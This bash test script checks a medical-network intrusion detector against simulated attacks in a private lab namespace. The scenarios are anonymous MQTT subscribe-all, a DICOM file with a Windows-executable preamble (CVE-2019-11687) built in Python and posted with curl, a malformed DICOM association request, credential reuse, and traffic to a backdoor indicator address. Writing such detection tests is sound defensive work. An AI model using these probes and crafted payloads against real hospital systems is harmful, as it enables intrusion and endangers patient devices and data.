#!/bin/bash
# tests/net/test_detect_medical.sh - misuse of the medical network: the
# internet and an indicator, MQTT without credentials, a silent device, and
# deviations from learned behaviour.
#
# The LAN of tests/net/detect_lan.sh, and an attacker (02:66:66:00:00:66,
# 10.77.0.66) for the MQTT scenario. The LAN's start and one round of normal activity
# (base.pcapng) go through ward first (base: no alert); then each attack
# is captured on its own and given to ward after base.pcapng in one run:
#
#   internet       the CT (a medical device) stores an image with storescu
#                  to AE CLOUD at 202.114.4.119, through the router (the
#                  "internet" is our own namespace): internet_connection and
#                  ioc_match (the Contec CMS8000 address in the default
#                  policy's indicators) about the CT
#   mqtt-anon      mosquitto_sub -t '#' without credentials on the broker
#                  that lets anonymous clients in: mqtt_unauthenticated
#                  and mqtt_subscribe_all about the attacker, peer the
#                  broker
#   offline        one round of normal activity (tick.pcapng) repeated every
#                  60 s for 20 minutes by shifting its timestamps (editcap
#                  -t 60*i, merged with mergecap), the pump's frames dropped
#                  from minute 5 on (tshark -Y 'not eth.addr==PUMP'): ward's
#                  offline state runs on capture time, so the pump, silent
#                  for 15 minutes against a 60 s cadence while the rest go
#                  on, must be device_offline and nothing else
#
# and after `ward baseline learn` on base.pcapng, in --detect-mode enforce:
#
#   dicom-new-dest the CT stores to the archive (known: the nurse station
#                  C-ECHOes it) instead of the PACS: dicom_new_destination,
#                  new_peer and phi_to_new_peer (the image names a patient)
#                  about the CT, peer the archive
#   hl7-unexpected the monitor sends an ORM^O01 (it only ever sent ORU^R01)
#                  to the engine: hl7_unexpected_message about the monitor
#   polyglot       the attacker posts a DICOM file whose preamble is a PE
#                  program (CVE-2019-11687) to a web server on the PACS:
#                  dicom_executable_preamble about the attacker
#   malformed      the attacker sends the PACS an A-ASSOCIATE-RQ with an
#                  item of no known type: malformed_medical_stream
#   cred-reuse     the nurse station subscribes to the pumps' topic with the
#                  pump's MQTT login instead of its own: a password in clear
#                  it never sent, cleartext_credential about the nurse
#                  station (its own login, learned, stays quiet)
#
# WARD is the ward binary. Exit 77 when not root, when a program is missing
# or when ward has no detection. DETECT_KEEP=1 keeps everything.

set -u
here=$(cd "$(dirname "$0")" && pwd)
[ -n "${WARD:-}" ] && [ -x "$WARD" ] ||
    { echo "test_detect_medical: WARD must name ward" >&2; exit 1; }
. "$here/lib.sh"
. "$here/detect_lan.sh"
net_skip_unless_possible
det_require
det_ward_can_detect
det_hl7_peers
[ "${DETECT_KEEP:-0}" = 1 ] && NET_KEEP_TMP=1
net_init
T=$NET_TMP

det_lan "$T/base.pcapng"
CT=$(det_who modality)
det_session
det_base

# The CT sends a study to the "cloud" at the Contec backdoor's address.
det_attack_begin internet
det_run modality storescu -aet CT01 -aec CLOUD "${DET_IP[inet]}" 104 \
    "$T/ct.dcm"
cat >"$T/internet.expect" <<EOF
internet internet_connection $CT - peer=${DET_IP[inet]}
internet ioc_match $CT ${DET_IP[inet]}
EOF
det_attack_end internet

# Anybody reads every topic of the broker, without a password.
det_attack_begin mqtt-anon
det_host attacker 02:66:66:00:00:66 10.77.0.66/24
ATT=$(det_who attacker)
det_run attacker mosquitto_sub -h "${DET_IP[broker]}" -i probe -t '#' -v \
    -C 1 -W 5
cat >"$T/mqtt-anon.expect" <<EOF
mqtt-anon mqtt_unauthenticated $ATT - peer=$(det_who broker)
mqtt-anon mqtt_subscribe_all $ATT - peer=$(det_who broker)
EOF
det_attack_end mqtt-anon

# A DICOM file whose 128-byte preamble is a Windows program (CVE-2019-11687),
# posted over HTTP to a web server on the PACS (it refuses the POST; the
# file crossed all the same).
/usr/bin/python3 - "$T/pe.dcm" <<'PY'
import struct, sys
def el(e, vr, v):
    if vr == 'OB':
        return struct.pack('<HH', 2, e) + b'OB\0\0' + struct.pack('<I', len(v)) + v
    return struct.pack('<HH', 2, e) + vr.encode() + struct.pack('<H', len(v)) + v
pre = (b'MZ\x90\0' + bytes(128))[:128]
f = pre + b'DICM' + el(1, 'OB', b'\0\1') + \
    el(2, 'UI', b'1.2.840.10008.5.1.4.1.1.2\0') + \
    el(0x10, 'UI', b'1.2.840.10008.1.2.1\0')
f += b'PE\0\0' + bytes(64)
f = f[:0x3c] + struct.pack('<I', f.index(b'PE\0\0')) + f[0x40:]
open(sys.argv[1], 'wb').write(f + bytes(2000))
PY
net_bg pacs "$T/http.log" /usr/bin/python3 -m http.server 8080 \
    --bind "${DET_IP[pacs]}"
net_wait_listen pacs tcp 8080 10 || net_die "http server did not start"
det_attack_begin polyglot
det_run attacker curl -s -o /dev/null -H 'Content-Type: application/dicom' \
    --data-binary @"$T/pe.dcm" "http://${DET_IP[pacs]}:8080/studies"
cat >"$T/polyglot.expect" <<EOF
polyglot dicom_executable_preamble $ATT - peer=$(det_who pacs)
EOF
det_attack_end polyglot

# A malformed A-ASSOCIATE-RQ (an item of no known type) to the PACS.
det_attack_begin malformed
det_run attacker /usr/bin/python3 -c '
import socket, struct, sys
body = struct.pack(">HH", 1, 0) + b"PACS".ljust(16) + b"EVIL".ljust(16) + \
    bytes(32) + bytes([0x99, 0]) + struct.pack(">H", 4) + b"XXXX"
pdu = bytes([1, 0]) + struct.pack(">I", len(body)) + body
s = socket.create_connection((sys.argv[1], 104), timeout=3)
s.sendall(pdu)
try:
    s.recv(100)
except OSError:
    pass
s.close()
' "${DET_IP[pacs]}"
cat >"$T/malformed.expect" <<EOF
malformed malformed_medical_stream $ATT dicom peer=$(det_who pacs)
EOF
det_attack_end malformed

# The pump goes silent: 20 minutes of normal rounds built from one.
net_capture_start "$T/tick.pcapng"
det_session
net_capture_stop
copies=()
for i in $(seq 0 19); do
	editcap -t $((i * 60)) "$T/tick.pcapng" "$T/tick-$i.pcapng" ||
	    net_die "editcap -t"
	if [ "$i" -ge 5 ]; then
		tshark -r "$T/tick-$i.pcapng" -Y "not eth.addr==${DET_MAC[pump]}" \
		    -w "$T/tick-$i-nopump.pcapng" 2>/dev/null || net_die "tshark -w"
		mv "$T/tick-$i-nopump.pcapng" "$T/tick-$i.pcapng"
	fi
	copies+=("$T/tick-$i.pcapng")
done
mergecap -w "$T/offline.pcapng" "${copies[@]}" || net_die mergecap
rm -f "${copies[@]}"
cat >"$T/offline.expect" <<EOF
offline device_offline $(det_who pump)
EOF
DET_DB="$T/offline.db"
det_ward "$T/offline.eve" "$T/base.pcapng" "$T/offline.pcapng"
det_check offline "$T/offline.eve" "$T/offline.expect"

# Learned behaviour: base.pcapng.
DET_LEARNED_DB="$T/learned.db"
DET_DB=$DET_LEARNED_DB
det_learn "$T/base.pcapng"

# The CT stores to the archive, which it never did.
det_attack_begin dicom-new-dest
det_run modality storescu -aet CT01 -aec ARCHIVE "${DET_IP[archive]}" 104 \
    "$T/ct.dcm"
ARCHIVE=$(det_who archive)
cat >"$T/dicom-new-dest.expect" <<EOF
dicom-new-dest dicom_new_destination $CT - peer=$ARCHIVE
dicom-new-dest new_peer $CT - peer=$ARCHIVE
dicom-new-dest phi_to_new_peer $CT - peer=$ARCHIVE
EOF
det_enforce_end dicom-new-dest

# The monitor sends an order, which it never did.
det_attack_begin hl7-unexpected
det_run monitor node "$here/hl7/detect_peer.js" send "${DET_IP[engine]}" \
    "$DET_HL7_PORT" PHILIPS_IX ORM^O01
cat >"$T/hl7-unexpected.expect" <<EOF
hl7-unexpected hl7_unexpected_message $(det_who monitor) ORM^O01
EOF
det_enforce_end hl7-unexpected

# The nurse station borrows the pump's login (same topic filter as ever).
det_attack_begin cred-reuse
det_run ws mosquitto_sub -h "${DET_IP[broker]}" -i nurse-station \
    -u pump12 -P "$DET_MQTT_PASS" -t 'pumps/+/status' -C 1 -W 5
cat >"$T/cred-reuse.expect" <<EOF
cred-reuse cleartext_credential $(det_who ws) mqtt
EOF
det_enforce_end cred-reuse

exit $DET_FAIL
